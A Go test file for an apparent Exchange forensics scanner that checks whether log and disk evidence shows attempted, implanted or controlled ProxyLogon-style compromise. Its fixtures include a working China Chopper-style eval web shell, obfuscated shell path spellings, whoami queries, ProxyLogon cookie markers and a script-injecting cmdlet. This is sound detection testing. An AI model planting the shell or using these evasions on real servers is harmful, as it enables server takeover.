package main

import (
	"fmt"
	"strings"
	"testing"

	"github.com/athar-forensics/athar"
	"github.com/athar-forensics/athar/internal/forge"
)

// F1. A web shell's owner copies the request-id header of any ordinary answer
// into his query: the shell's row then joins a harmless front-end row.
func TestFoundForgedRequestID(t *testing.T) {
	for _, c := range []struct{ name, join string }{{"of a harmless row", "/owa/auth/logon.aspx"}, {"of a sweep", "/owa/auth/zz.aspx"}} {
		t.Run(c.name, func(t *testing.T) {
			at := on(2021, 3, 3, 10, 0, 0)
			s := newStory(t, 91)
			h := open(s)
			if strings.Contains(c.join, "logon") {
				h.Hit(forge.Hit{At: at, From: intruder, URL: c.join, Status: 200, Took: 20})
			} else {
				h.Missing(at, intruder, c.join)
			}
			id := ""
			for _, f := range s.made.Files() {
				if strings.Contains(f.Path, "HttpProxy/Owa/HttpProxy_2021030310") {
					for l := range strings.Lines(string(f.Data)) {
						if strings.Contains(l, c.join) && strings.Contains(l, intruder.Address) {
							id = strings.Split(l, ",")[1]
						}
					}
				}
			}
			if id == "" {
				t.Fatal("no row to copy from")
			}
			h.Hit(forge.Hit{At: at + 20*athar.Minute, From: intruder, URL: "/aspnet_client/sh.aspx", Method: "POST", Query: "cafeReqId=" + id, Status: 200, Took: 2100})
			wantStage(t, scan(t, s.pack()).only(), athar.Controlled)
		})
	}
}

// F2. Posts to /ecp/y.js refused before routing (401, 403, 404) are tries.
func TestFoundRefusedBeforeRouting(t *testing.T) {
	for _, status := range []int{401, 403, 404} {
		s := newStory(t, 22)
		fixed(s).RefusedChain(forge.ProxyLogon{At: on(2022, 6, 3, 3, 0, 0), From: intruder}, status)
		srv := scan(t, s.pack()).only()
		wantStage(t, srv, athar.Attempted)
	}
}

// F4. Order-taking script on disk, in every place of 3.1.
func TestFoundShellPlaces(t *testing.T) {
	chopper := `<%@ Page Language="Jscript"%><%eval(Request.Item["k"],"unsafe");%>`
	fe := "MAIL01/C/Program Files/Microsoft/Exchange Server/V15/"
	for _, name := range []string{
		fe + "FrontEnd/HttpProxy/owa/auth/errorFE.aspx", fe + "FrontEnd/HttpProxy/owa/auth/error.aspx", fe + "FrontEnd/HttpProxy/owa/auth/error2.aspx",
		fe + "FrontEnd/HttpProxy/owa/auth/logon.aspx", fe + "FrontEnd/HttpProxy/ecp/global.asax", fe + "ClientAccess/owa/auth/logon.aspx",
		fe + "ClientAccess/ecp/x.aspx", fe + "FrontEnd/HttpProxy/psws/x.aspx", "MAIL01/C/inetpub/wwwroot/shell.aspx", "MAIL01/C/ProgramData/COM/x.aspx",
	} {
		t.Run(name[7:], func(t *testing.T) {
			s := newStory(t, 93)
			open(s)
			dir := s.folder(keepOnly("Logging/HttpProxy", "W3SVC", "ExchangeSetup"))
			put(t, dir, name, []byte(chopper))
			wantStage(t, scan(t, dir).only(), athar.Implanted)
		})
	}
}

// F4b. The same page asked for: error.aspx is no page of the front end.
func TestFoundShellUnderBackEndName(t *testing.T) {
	s := newStory(t, 94)
	h := open(s)
	h.Command(on(2021, 3, 3, 3, 0, 0), intruder, forge.Shell{URL: "/owa/auth/error2.aspx"}, 2100)
	wantStage(t, scan(t, s.pack()).only(), athar.Controlled)
}

// F6. The only log given lacks the day of the attack.
func TestFoundDeletedDay(t *testing.T) {
	s := newStory(t, 95)
	h := s.server("MAIL01", "15.1.2176.2")
	h.Installed(on(2021, 3, 1, 6, 0, 0))
	h.WebRoot(on(2021, 3, 1, 6, 10, 0))
	h.Healthy(forge.Traffic{From: on(2021, 3, 1, 6, 20, 0), Until: on(2021, 3, 6, 0, 0, 0), PerHour: 30, Probe: athar.Hour})
	v := scan(t, s.pack(keepOnly("W3SVC1", "ExchangeSetup", "FrontEnd"), without("u_ex210303")))
	if a := v.only().Answers.Attacked.Answer; a != athar.Unsure {
		t.Errorf("attacked = %s with a day of the only log missing\n%s", a, told(v.only()))
	}
}

// F7. The inner site's log without s-port covers nothing, wherever it lies.
func TestFoundInnerSiteWithoutPort(t *testing.T) {
	s := newStory(t, 96)
	open(s)
	dir := s.folder(keepOnly("ExchangeSetup", "FrontEnd"))
	l := &iisLog{}
	l.fields("date time cs-method cs-uri-stem cs-uri-query cs-username c-ip cs(User-Agent) sc-status")
	for at := on(2021, 3, 1, 6, 10, 0); at < on(2021, 3, 5, 0, 0, 0); at += 20 * athar.Minute {
		fmt.Fprintf(&l.b, "%s POST /EWS/Exchange.asmx &CorrelationID=<empty>;&cafeReqId=0a0b0c0d-0000-4000-8000-000000000000; CORP\\a fe80::1 Mozilla/5.0 200\r\n", at.Std().Format("2006-01-02 15:04:05"))
	}
	put(t, dir, "MAIL01/C/inetpub/logs/LogFiles/W3SVC2/u_ex210301.log", l.bytes())
	v := scan(t, dir)
	if a := v.only().Answers.Attacked.Answer; a != athar.Unsure {
		t.Errorf("attacked = %s from the inner site's log alone\n%s", a, told(v.only()))
	}
}

// F9. A flood of harmless sightings before the one that matters, in one file.
func TestFoundFlood(t *testing.T) {
	l := newIIS()
	for i := range 6000 {
		l.row(on(2021, 3, 5, 0, 0, 0)+athar.Time(i)*athar.Second, "GET", "/aspnet_client/a.aspx", "", fmt.Sprintf("10.0.%d.%d", i>>8, i&255), "x", 404)
	}
	l.row(on(2021, 3, 5, 23, 0, 0), "POST", "/aspnet_client/shell.aspx", "", intruder.Address, "x", 200)
	dir := t.TempDir()
	put(t, dir, "case/u_ex210305.log", l.bytes())
	v := scan(t, dir)
	if s := v.only(); s.Stage != athar.Controlled {
		t.Errorf("stage = %v, %d findings, skipped %v", s.Stage, len(s.Findings), v.Scan.Skipped)
	}
}

// F10. The logon page answers 200 to anybody, whatever the query says.
func TestFoundTokenOnPublicPage(t *testing.T) {
	s := newStory(t, 98)
	h := fixed(s)
	h.Hit(forge.Hit{At: on(2022, 6, 3, 10, 0, 0), From: intruder, URL: "/owa/auth/logon.aspx", Query: "X-Rps-CAT=VgEAVAdXaW5kb3dz", Status: 200, Took: 20})
	srv := scan(t, s.pack()).only()
	nothingFrom(t, srv, athar.Accessed)
}

// F11. A cmdlet that failed set nothing; an administrator's reset minutes later
// wrote nothing of it.
func TestFoundFailedSetThenReset(t *testing.T) {
	row := func(at, cmd, ex string) string {
		return "2021-03-04T05:" + at + ".000Z,MAIL01,ECP.Request,\"S:TIME=1;S:SID=" + at + ";'S:CMD=" + cmd + "';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject;S:EX=" + ex + "\"\r\n"
	}
	dir := t.TempDir()
	put(t, dir, "case/ECPServer20210304-1.LOG", []byte("#Software: Microsoft Exchange Server\r\n#Version: 15.0.0.0\r\n#Log-type: ECP Server Log\r\n#Date: 2021-03-04T00:00:00.000Z\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n"+
		row("00:00", `Set-OabVirtualDirectory.ExternalUrl=''http://f/<script runat=""server"">x</script>''.Identity=''g''`, "Microsoft.Exchange.Denied:denied")+
		row("10:00", `Remove-OwaVirtualDirectory.Force=$true.Identity=''MAIL01\owa (Default Web Site)''`, "")+
		row("10:02", `New-OwaVirtualDirectory.Role=''ClientAccess''`, "")))
	wantStage(t, scan(t, dir).only(), athar.Attempted)
}

// F14. One row dated 2099 moves the end of the evidence.
func TestFoundFutureRow(t *testing.T) {
	s := newStory(t, 90)
	fixed(s)
	dir := s.folder()
	l := newIIS()
	l.row(on(2099, 3, 5, 3, 0, 0), "GET", "/favicon.ico", "", "198.51.100.7", "x", 404)
	put(t, dir, "MAIL01/C/inetpub/logs/LogFiles/W3SVC1/u_ex220603_x.log", l.bytes())
	wantStage(t, scan(t, dir).only(), athar.Clear)
}

// F15. Spellings of a shell's path whose rows hold none of the visit literals.
func TestFoundSpellings(t *testing.T) {
	for _, path := range []string{"/oab/x.asmx", "/oab/x.aspx.", "/owa/%61uth/x.ashx", "/owa//auth/x.ashx", "/owa/./auth/x.asmx", `/owa\auth\x.ashx`, "/aspnet_client%2fx.ashx", "/owa/auth/x.aspx::$DATA"} {
		t.Run(path, func(t *testing.T) {
			l := newIIS()
			l.row(on(2021, 3, 5, 2, 0, 0), "GET", "/owa/", "", "198.51.100.7", "Mozilla/5.0", 200)
			l.row(on(2021, 3, 5, 3, 0, 0), "POST", path, "", intruder.Address, "x", 200)
			dir := t.TempDir()
			put(t, dir, "case/u_ex210305.log", l.bytes())
			wantStage(t, scan(t, dir).only(), athar.Controlled)
		})
	}
}

// F16. Parameters that Exchange does not append below /aspnet_client, or that
// only the client can have sent.
func TestFoundParameterNames(t *testing.T) {
	for _, q := range []string{"clientid=whoami", "actid=whoami", "requestid=whoami", "encoding=whoami", "cafeReqId=whoami", "=whoami"} {
		t.Run(q, func(t *testing.T) {
			l := newIIS()
			l.row(on(2021, 3, 5, 2, 0, 0), "GET", "/owa/", "", "198.51.100.7", "Mozilla/5.0", 200)
			l.row(on(2021, 3, 5, 3, 0, 0), "GET", "/aspnet_client/x.aspx", q, intruder.Address, "x", 200)
			dir := t.TempDir()
			put(t, dir, "case/u_ex210305.log", l.bytes())
			wantStage(t, scan(t, dir).only(), athar.Controlled)
		})
	}
}

// F17. A row with more values than its header names no server.
func TestFoundShiftedRow(t *testing.T) {
	row := string(proxyLog(proxied{}, proxied{"UserAgent": "@@", "AnchorMailbox": "ServerInfo~a]@mail01:444/ecp/proxyLogon.ecp?#", "HttpStatus": "241"}))
	dir := t.TempDir()
	put(t, dir, "case/HttpProxy/Ecp/HttpProxy_2021030405-1.LOG", []byte(strings.Replace(row, "@@", "x,203.0.113.9,EVIL01,404", 1)))
	v := scan(t, dir)
	if len(v.Servers) != 1 || v.Servers[0].Name != "MAIL01" {
		t.Errorf("servers = %v", v.names())
	}
}

// F18. Other back-end services are services too.
func TestFoundOtherServices(t *testing.T) {
	for _, path := range []string{"/api/v2.0/me", "/PushNotifications/x", "/rest/x", "/%65ws/exchange.asmx"} {
		want := athar.Accessed
		if strings.Contains(path, "exchange.asmx") {
			want = athar.Exfiltrated
		}
		wantStage(t, oneProxyRow(t, proxied{"AnchorMailbox": "ServerInfo~a]@mail01:444" + path + "?#", "RoutingHint": "X-BEResource-Cookie", "ResponseBytes": "90000"}), want)
	}
}

// F21. A POST that a foreign page answered with another success than 200 is no
// search for a page that is not there.
func TestFoundOtherSuccess(t *testing.T) {
	for _, status := range []int{201, 202, 204, 206} {
		l := newIIS()
		l.row(on(2021, 3, 5, 2, 0, 0), "GET", "/owa/", "", "198.51.100.7", "Mozilla/5.0", 200)
		l.row(on(2021, 3, 5, 3, 0, 0), "POST", "/aspnet_client/x.aspx", "", intruder.Address, "x", status)
		dir := t.TempDir()
		put(t, dir, "case/u_ex210305.log", l.bytes())
		wantStage(t, scan(t, dir).only(), athar.Controlled)
	}
}
